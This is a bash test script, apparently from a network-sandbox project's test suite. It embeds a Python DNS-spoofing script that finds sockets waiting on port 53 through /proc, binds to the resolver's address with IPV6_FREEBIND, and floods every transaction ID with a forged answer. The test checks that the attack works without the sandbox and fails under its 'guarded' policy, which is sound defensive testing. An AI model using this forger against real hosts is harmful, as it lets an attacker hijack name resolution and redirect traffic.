#!/bin/bash
# | an answer in a resolver's name to netpale's own question: its port stands in /proc, IPv6 lets anybody send from any address (IPV6_FREEBIND) | is believed by who asked | `guarded`: cannot be sent | chain egress, who speaks from port 53 |
. "${0%/*}/lib.sh"

# Ports as Docker has them. The resolver says nothing: any answer that comes is forged.
in_client sysctl -qw net.ipv4.ip_unprivileged_port_start=0
start udp 2001:db8:1::53 53 "$PEERS/dns" 2001:db8:1::53 53 silent no-tcp
echo 'nameserver 2001:db8:1::53' >resolv.conf

# Asks for an allowed name as any client does, and forges the answer, with every number there is, to
# each socket that waits for that resolver. Says what became of it.
cat >forge.py <<'END'
import socket, struct, subprocess, time
resolver = "2001:db8:1::53"
client = subprocess.Popen(["dig", "@" + resolver, "+qid=7", "+tries=1", "+timeout=1", "+noedns", "+short",
    "www.example.com", "A"], stdout=subprocess.PIPE, text=True)
forger = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
forger.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
forger.bind((resolver, 53))
def waiting():  # the address and port of each socket that is connected to a port 53
    for line in open("/proc/net/udp6"):
        local, remote = line.split()[1:3]
        if remote.endswith(":0035"):
            address, port = local.split(":")
            words = struct.unpack(">4I", bytes.fromhex(address))
            yield socket.inet_ntop(socket.AF_INET6, struct.pack("=4I", *words)), int(port, 16)
answer = b"\x81\x80\0\1\0\1\0\0\0\0\3www\7example\3com\0\0\1\0\1" \
    b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xcb\0\x71\x42"
sent = refused = 0
victims = set()
while client.poll() is None:
    new = set(waiting()) - victims
    victims |= new
    for victim in new:
        for number in range(65536):
            try:
                forger.sendto(struct.pack(">H", number) + answer, victim)
                sent += 1
            except PermissionError:
                refused += 1
                if refused % 100 == 0:
                    break
print("sockets", len(victims), "sent", sent, "refused", refused)
print(client.communicate()[0])
END
unfenced python3 forge.py >forged 2>&1
check 'without a fence the forged answer is believed' says forged '^203\.0\.113\.66$'
policy <<-'END'
	allow:
	  - {host: '*.example.com', ports: [7], private: true}
END
stance guarded
fenced true
before=$(ruleset)
fenced python3 forge.py >forged 2>&1
check 'guarded: the sockets are found' says forged '^sockets [1-9]'
check 'guarded: not one answer can be sent to them' says forged ' sent 0 refused [1-9]'
refute 'guarded: nor is one believed' says forged '203\.0\.113\.66'
check 'guarded: nor is the fence changed' stands_as "$before"
